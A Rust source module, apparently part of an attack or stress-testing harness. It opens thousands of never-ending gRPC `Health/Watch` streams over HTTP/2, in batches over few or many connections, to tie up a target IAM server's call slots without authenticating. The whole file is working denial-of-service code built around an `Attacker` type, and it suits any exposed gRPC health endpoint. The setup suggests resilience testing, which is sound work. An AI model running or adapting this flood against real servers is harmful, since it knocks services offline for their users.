//! `Health/Watch` streams that stay open. Each needs no session, never ends, and occupies one of the server's slots for
//! calls.

use std::{sync::Arc, time::Duration};

use super::Attacker;
use crate::wire::{Http2, frames};

const STREAMS: u32 = 4096;
const PATH: &str = "/grpc.health.v1.Health/Watch";
const REPEAT_DELAY: Duration = Duration::from_millis(500);
/// How many streams one write opens.
const BATCH_SIZE: u32 = 64;

pub async fn over_few(attacker: Arc<Attacker>) {
    hold(attacker, 5).await;
}

pub async fn over_many(attacker: Arc<Attacker>) {
    hold(attacker, 512).await;
}

async fn hold(attacker: Arc<Attacker>, connections: u32) {
    let each = attacker.scaled(STREAMS).div_ceil(attacker.scaled(connections));
    attacker
        .repeat(connections, REPEAT_DELAY, move |attacker, _| async move {
            let Ok(connection) = Http2::open(&attacker, &attacker.entrances.iam).await else { return };
            let (block, message) = (frames::call(&connection.authority, PATH), frames::grpc_message(&[]));
            let mut opened = 0;
            connection
                .drive(|| {
                    let batch = BATCH_SIZE.min(each - opened);
                    let streams = (opened..opened + batch).map(|number| number * 2 + 1);
                    let bytes = streams.flat_map(|stream| {
                        [frames::headers(stream, &block, false), frames::last_data(stream, &message)].concat()
                    });
                    let bytes: Vec<u8> = bytes.collect();
                    opened += batch;
                    attacker.has_sent(batch.into());
                    async move { (!bytes.is_empty()).then_some(bytes) }
                })
                .await;
        })
        .await;
}
